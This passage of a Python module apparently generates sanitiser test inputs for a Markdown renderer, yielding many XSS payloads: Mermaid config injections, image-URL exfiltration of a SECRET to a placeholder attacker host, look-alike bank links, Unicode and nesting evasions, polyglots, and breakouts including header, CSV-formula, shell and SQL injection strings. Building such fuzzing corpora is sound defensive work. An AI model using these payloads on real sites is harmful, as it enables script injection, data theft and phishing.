        '"fontFamily": "x\\");@import url(@URL@)"',
        '"htmlLabels": true, "flowchart": {"htmlLabels": true}',
        '"dompurifyConfig": {"ADD_TAGS": ["img", "iframe"], "ADD_ATTR": ["onerror"]}',
        '"__proto__": {"securityLevel": "loose"}',
        '"constructor": {"prototype": {"securityLevel": "loose"}}',
        '"secure": []',
        '"startOnLoad": true, "maxTextSize": 99999999',
        '"flowchart": {"defaultRenderer": "elk"}',
        '"look": "handDrawn", "legacyMathML": true, "forceLegacyMathML": true',
        '"deterministicIDSeed": "<script>@JS@</script>"',
    )
    body = 'flowchart TD\n A["<img src=@URL@ onerror=@JS@>"]\n click A call @JS@'
    for setting in settings:
        yield f"```mermaid\n%%{{init: {{{setting}}}}}%%\n{body}\n```"
        yield f"```mermaid\n---\nconfig: {{{setting}}}\n---\n{body}\n```"
    label = "<img src=@URL@ onerror=@JS@>"
    for diagram in (
        f"sequenceDiagram\n Alice->>Bob: {label}\n Note over Bob: {label}",
        'sequenceDiagram\n participant A\n link A: x @ javascript:@JS@\n links A: {"x": "@URL@"}',
        f"sequenceDiagram\n participant A as {label}\n A->>A: $$\\href{{javascript:@JS@}}{{x}}$$",
        f'classDiagram\n class A["{label}"]\n A : {label}\n link A "javascript:@JS@"',
        'classDiagram\n class A\n callback A "@JS@"\n click A href "javascript:@JS@"',
        f"stateDiagram-v2\n s1: {label}\n s1 --> s2: {label}\n note right of s1: {label}",
        f'erDiagram\n A ||--o{{ B : "{label}"\n A {{ string x "{label}" }}',
        f'gantt\n title {label}\n section {label}\n {label} :a, 2024-01-01, 1d\n click a href "javascript:@JS@"',
        f'pie title {label}\n "{label}" : 1',
        f'mindmap\n root(("{label}"))\n  ::icon(fa fa-book)\n  {label}',
        f"timeline\n title {label}\n 2024 : {label}",
        f"journey\n title {label}\n section {label}\n {label}: 5: {label}",
        f'gitGraph\n commit id: "{label}" tag: "{label}"',
        f"quadrantChart\n title {label}\n x-axis {label} --> y\n {label}: [0.3, 0.6]",
        f'requirementDiagram\n requirement r {{ id: 1\n text: "{label}" }}',
        f'C4Context\n title {label}\n Person(a, "{label}", "{label}", $sprite="@URL@", $link="javascript:@JS@")',
        f"sankey-beta\n{label},b,1",
        f'xychart-beta\n title "{label}"\n x-axis ["{label}"]\n bar [1]',
        f'block-beta\n a["{label}"]',
        f'packet-beta\n 0-1: "{label}"',
        f"kanban\n todo[{label}]\n  a[{label}]@{{ ticket: javascript:@JS@ }}",
        f"architecture-beta\n service a(@URL@)[{label}]",
        f'radar-beta\n axis a["{label}"]\n curve c["{label}"]{{1}}',
        f'treemap-beta\n"{label}"\n  "x": 1',
        f"zenuml\n title {label}\n A.method() {{ @JS@ }}",
        f"info\n {label}",
        "flowchart TD\n" + " A-->B\n" * 2_000 + " click A call @JS@",
    ):
        yield f"```mermaid\n{diagram}\n```"


def _exfiltration() -> Iterator[str]:
    urls = (
        "@URL@?q=SECRET",
        "@URL@/SECRET.png",
        "https://SECRET.@HOST@",
        "https://u:SECRET@@HOST@",
        "http://@HOST@?SECRET",
        "@URL@#:~:text=SECRET",
        "https://images.example.@HOST@",
        "https://images.example@@HOST@",
        "https://images.example%2f@@HOST@",
        "https://images.example:443@@HOST@",
        "https://images.example\\@@HOST@",
        "https://images.example;.@HOST@",
        "HTTPS://EVIL.INVALID/@JS@",
        "https://xn--80ak6aa92e.@HOST@",
    )
    forms = (
        "![x]({})",
        "![]({})",
        "![x][1]\n\n[1]: {}",
        "![1]\n\n[1]: {}",
        "![x](<{}>)",
        "[![x]({0})]({0})",
        "[x][1]\n\n[1]: {}",
        "![x]({} =1x1)",
        "![x]({} 'a \"b\"')",
        '<img src="{}">',
        "{}",
        "<{}>",
        "| ![x]({}) |\n| - |\n| ![y]({}) |",
        "x[^1]\n\n[^1]: ![x]({})",
    )
    for url, form in product(urls, forms):
        yield form.replace("{0}", url).replace("{}", url)
    yield "[1]: @URL@?q=SECRET\n\nAs said in the report ![Logo][1] and [here][1]."


def _look_alikes() -> Iterator[str]:
    said = (
        "https://bank.example",
        "bank.example",
        "www.bank.example/login",
        f"https://b{CYRILLIC_A}nk.example",
        f"bank{ZWSP}.example",
        f"bank{IDEOGRAPHIC_STOP}example",
        "ｂａｎｋ．ｅｘａｍｐｌｅ",
        f"{RLO}elpmaxe.knab{PDF}",
        "**bank**.example",
        "`https://bank.example`",
        "Sign in at bank.example now",
        "![https://bank.example](@URL@)",
    )
    for text in said:
        yield f"[{text}](@URL@)"
        yield f"[{text}](@URL@ 'https://bank.example')"
    yield from (
        "[x](https://bank.example@@HOST@)",
        "[x](https://bank.example:pw@@HOST@)",
        "[x](https://bank.example%00.@HOST@)",
        f"[x](https://b{CYRILLIC_A}nk.@HOST@)",
        f"https://g{CYRILLIC_O}{CYRILLIC_O}gle.@HOST@",
        f"[x](https://evil{IDEOGRAPHIC_STOP}invalid/@JS@)",
        "[x](https://evil%2einvalid/@JS@)",
        "[x](https://%65vil.invalid/@JS@)",
        "[x](http://2130706433/@JS@)",
        "[x](http://0x7f.1/@JS@)",
        "[x](http://127.1/@JS@)",
        "[x](http://[::ffff:127.0.0.1]/@JS@)",
        "[x](https://bank.example\t@@HOST@)",
        f"https://bank.example/{RLO}/@HOST@",
        "https://bank.example" + "a" * 300 + ".@HOST@",
    )


# ---- Unicode, nesting, breakouts -----------------------------------------------------------------


def _unicode() -> Iterator[str]:
    inner = "<img src=x onerror=@JS@>"
    for char in (
        ZWSP,
        ZWNJ,
        ZWJ,
        BOM,
        SOFT,
        RLO,
        LRO,
        PDF,
        RLI,
        LRI,
        PDI,
        LINE_SEPARATOR,
        PARAGRAPH_SEPARATOR,
        NEL,
    ):
        yield f"{char}{inner}{char}"
        yield f"<{char}img src=x onerror=@JS@>"
        yield f"[x](java{char}script:@JS@)"
    for char in (
        "\x00",
        "\x01",
        "\x08",
        "\x0b",
        "\x0c",
        "\x1b",
        "\x7f",
        "\x9c",
        "\ufffe",
        "\uffff",
        "\U0010ffff",
    ):
        yield f"<scr{char}ipt>@JS@</scr{char}ipt>"
        yield f"<img src=x{char}onerror=@JS@>"
    for form in (
        "{}",
        "Hello {} world",
        "# {}",
        "`{}`",
        "[{}](@URL@)",
        "```\n{}\n```",
        "| {} |\n| - |",
        "> {}",
    ):
        yield form.format(as_tags("<script>@JS@</script>")) + "@JS@"
        yield form.format("\U0001f600" + as_selectors(b"<script>@JS@")) + "@JS@"
        yield form.format(f"{RLO}@JS@") + "x"
    yield from (
        "e" + "\u0301" * 3_000 + "@JS@",
        ("z" + "\u0336\u0489\u0353\u033f" * 30) * 20 + "@JS@",
        "\ufdfd" * 200 + "@JS@",
        "\U000130fa" * 20 + "@JS@",
        "＜ｓｃｒｉｐｔ＞@JS@＜／ｓｃｒｉｐｔ＞",
        f"java{KELVIN}script:@JS@ <{LONG_S}cript>@JS@</{LONG_S}cript>",
        "\u02bascript\u02ba>@JS@ ʺ><img src=x onerror=@JS@>ʺ",
        "\u3008script\u3009@JS@\u3008/script\u3009 \u2039script\u203a@JS@",
        "\U0001f3f4" + as_tags("gbeng") + "\U000e007f @JS@",
        ZWSP.join("<script>") + "@JS@" + ZWSP.join("</script>"),
        (ZWSP + ZWNJ + ZWJ + BOM) * 100 + "@JS@",
        RLI * 200 + "@JS@",
    )


def _nesting() -> Iterator[str]:
    for unit in (
        ">",
        "- ",
        "1. ",
        "[",
        "![",
        "*",
        "**a ",
        "_a ",
        "`",
        "~~a ",
        "<b>",
        "<div>",
        "(",
        "#",
        "|a",
        "$",
        "\\(",
        "<svg>",
        "<math>",
        "<!--",
    ):
        yield unit * 600 + "<img src=x onerror=@JS@>"
    yield "[a](" * 300 + "javascript:@JS@" + ")" * 300
    yield "![" * 200 + "x" + "](@URL@)" * 200
    yield "> - " * 200 + "[x](javascript:@JS@)"
    yield "x" * 20_000 + "<img src=x onerror=@JS@>"
    yield "\n" * 3_000 + "<script>@JS@</script>"
    yield "|" + "a|" * 300 + "\n|" + "-|" * 300 + "\n|" + "<img src=x onerror=@JS@>|" * 30


def _polyglots() -> Iterator[str]:
    yield from (
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=@JS@ )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=@JS@//>\\x3e",
        '">><marquee><img src=x onerror=@JS@></marquee>"></plaintext\\></|\\><plaintext/onmouseover=@JS@>',
        "'\">><script>@JS@</script>",
        "';@JS@//';@JS@//\";@JS@//--></SCRIPT>\">'><SCRIPT>@JS@</SCRIPT>",
        "javascript://'/</title></style></textarea></script>--><p\" onclick=@JS@//>*/@JS@/*",
        "`\"'><img src=x onerror=@JS@>${@JS@}{{@JS@}}",
        "<svg/onload=@JS@><!--](javascript:@JS@)![x](@URL@)$\\href{javascript:@JS@}{x}$",
        "[x](@URL@)<img src=@URL@>`<script>@JS@</script>",
        "${alert`@JS@`}<%= @JS@ %>#{@JS@}{{@JS@}}[[@JS@]]",
        '-->\'"/></sCript><deTailS open x=">" ontoggle=(@JS@)``>',
        '<a href="javas&Tab;cript&colon;@JS@">x</a>](javas&Tab;cript&colon;@JS@)',
    )


def _breakouts() -> Iterator[str]:
    for ending in (
        "</script><script>@JS@</script>",
        "</SCRIPT ><img src=x onerror=@JS@>",
        "</title><script>@JS@</script>",
        "</textarea><script>@JS@</script>",
        "</style><script>@JS@</script>",
        "</noscript><script>@JS@</script>",
        "</template><script>@JS@</script>",
        "<!--<script>@JS@",
        "--></script><script>@JS@</script>",
        "]]><script>@JS@</script>",
        "\u2028@JS@\u2029",
        "\\u2028@JS@//",
        '";@JS@;//',
        "';@JS@;//",
        "`;@JS@;//",
        "${@JS@}",
        '\\";@JS@;//',
        "\\\\';@JS@;//",
        '"}]};@JS@;//',
        "\n@JS@\n",
        "\r@JS@\r",
        "*/@JS@/*",
        "//\n@JS@",
        "\r\nContent-Type: text/html\r\n\r\n<script>@JS@</script>",
        "\r\nSet-Cookie: x=@JS@",
        'data: {"x": 1}\n\ndata: <script>@JS@</script>',
        "%0d%0aLocation:%20@URL@",
        "../../../../<script>@JS@</script>",
        "..\\..\\@JS@.html",
        "con.<script>@JS@</script>",
        'x"; filename="@JS@.html',
        "=cmd|'/c @JS@'!A0",
        "@SUM(1+1)*@JS@",
        "\x1b]8;;@URL@\x07x\x1b]8;;\x07",
        "\x1b[2J@JS@",
        "%s%n%x@JS@",
        "$(@JS@) `@JS@` ; @JS@ |",
        "' OR 1=1; -- @JS@",
        "&quot;&gt;&lt;img src=x onerror=@JS@&gt;",
        "%22%3E%3Cimg%20src=x%20onerror=@JS@%3E",
        "&NewLine;&lt;script>@JS@</script>",
        "\\x3cscript\\x3e@JS@\\x3c/script\\x3e",
    ):
        yield ending
        yield f"x{ending}"


def _harmless_tags() -> Iterator[str]:
    """The tags that Markdown may contain, with attributes that they must not have."""
    names = [
        "b",
        "sub",
        "sup",
        "kbd",
        "mark",
        "u",
        "ins",
        "small",
        "code",
        "q",
        "details",
        "summary",
    ]
    bad = [
        "onclick=@JS@",
        "/onmouseover=@JS@",
        'style="background:url(@URL@)"',
        "id=ws-composer",
        "class=ws-prose-copy data-action=stop",
        "ontoggle=@JS@ open",
        "\nonclick=@JS@\n",
        "x=1>y<script>@JS@</script",
        "cite=@URL@",
        "open onfocus=@JS@ tabindex=0 autofocus",
    ]
    for name, attribute in product(names, bad):
        yield f"<{name} {attribute}>x</{name}>"
    for name in names:
        yield f"<{name}><script>@JS@</script></{name}>"
        yield f"<{name}><img src=@URL@></{name}>"
        yield f"<{name}>[x](javascript:@JS@)</{name}>"
        yield f"<{name}\x0bonclick=@JS@>x</{name}>"
    yield from (
        "<details>\n<summary><script>@JS@</script></summary>\n\n<img src=x onerror=@JS@>\n\n</details>",
        "<details open=@JS@>\nx\n</details>",
        '<details open="" ontoggle=@JS@>\nx\n</details>',
        "<details>\n```\n</details><script>@JS@</script>\n```\n</details>",
        "<details><summary>![x](@URL@)</summary>x</details>",
        "<details>\n" * 40 + "<script>@JS@</script>" + "\n</details>" * 40,
        "<b><i><u><s><kbd><mark>" * 40 + "<svg onload=@JS@>",
        "<br onload=@JS@><br/onerror=@JS@>",
        "| a |\n|---|\n| <br><script>@JS@</script><kbd onclick=@JS@>x</kbd> |\n",
        "<sub></sup><script>@JS@</script></sub>",
        "[<b>x](javascript:@JS@)</b>",
        '<b>https://@HOST@/"onmouseover=@JS@</b>',
        'www.@HOST@/"onmouseover=@JS@',
        'x@@HOST@"onmouseover=@JS@',
        "mailto:x@a.bc?subject=<script>@JS@</script>",
        "```md\n```html\n<script>@JS@</script>\n```\n```\n<script>@JS@</script>",
    )


_CLASSES = {
    "script": _script_tags,
    "event": _event_handlers,
    "raw link": _raw_links,
    "load": _frames_and_loads,
    "form": _forms,
    "style": _styles,
    "svg": _svg_and_mathml,
    "mutation": _mutations,
    "vue": _vue,
    "link": _markdown_links,
    "block": _markdown_blocks,
    "info string": _info_strings,
    "math": _math,
    "mermaid": _mermaid,
    "exfiltration": _exfiltration,
    "look-alike": _look_alikes,
    "unicode": _unicode,
    "nesting": _nesting,
    "polyglot": _polyglots,
    "breakout": _breakouts,
    "harmless tag": _harmless_tags,
    "tex": _tex,
}
